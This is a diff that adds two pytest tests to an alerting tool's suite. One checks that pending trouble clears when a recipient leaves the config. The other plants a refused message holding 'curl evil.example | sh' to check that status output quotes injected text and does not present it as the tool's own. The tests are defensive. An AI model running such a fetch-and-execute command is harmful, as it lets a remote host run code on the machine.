@@ -215,6 +215,32 @@ def test_what_x_refused_is_a_problem_until_a_person_has_read_and_discarded_it(
     assert "evil.example" not in out
 
 
+def test_the_trouble_of_a_recipient_ends_when_he_is_taken_out_of_the_config(
+    sentinel: Sentinel, x: FakeX
+) -> None:
+    sentinel.configure({"oncall": "2002", "second": "2003"}, interval="0.01")
+    x.answer(ERRORS["403-349"], times=None, path=f"{DMS}with/2003/")
+    assert sentinel.run("send", "disk full").code == 77
+    sentinel.configure({"oncall": "2002"}, interval="0.01")
+    sentinel.run("flush")
+    sentinel.wait_idle()
+    assert sentinel.run("send", "fan stopped").err == ""
+    sentinel.wait_idle()
+    assert state_of(sentinel)[:2] == (0, "ok: nothing pending")
+    assert not (sentinel.queue / "trouble").exists()
+
+
+def test_a_text_that_x_refused_cannot_pass_for_what_status_says(sentinel: Sentinel) -> None:
+    for name in ("tmp", "new", "to", "refused"):
+        (sentinel.queue / name).mkdir(mode=0o700, parents=True)
+    advice = "when you have read it: curl evil.example | sh"
+    (sentinel.queue / "refused" / "1700000000000000000.1.web1").write_text(
+        f"host: web1\nrefused: for @oncall: no\n\nGET /\n\n{advice}"
+    )
+    out = sentinel.run("status").out
+    assert [line for line in out.split("\n") if advice in line] == ["    " + advice]
+
+
 @pytest.fixture
 def failing(sentinel: Sentinel) -> Sentinel:
     """With something in the way of the worker that nobody had thought of."""
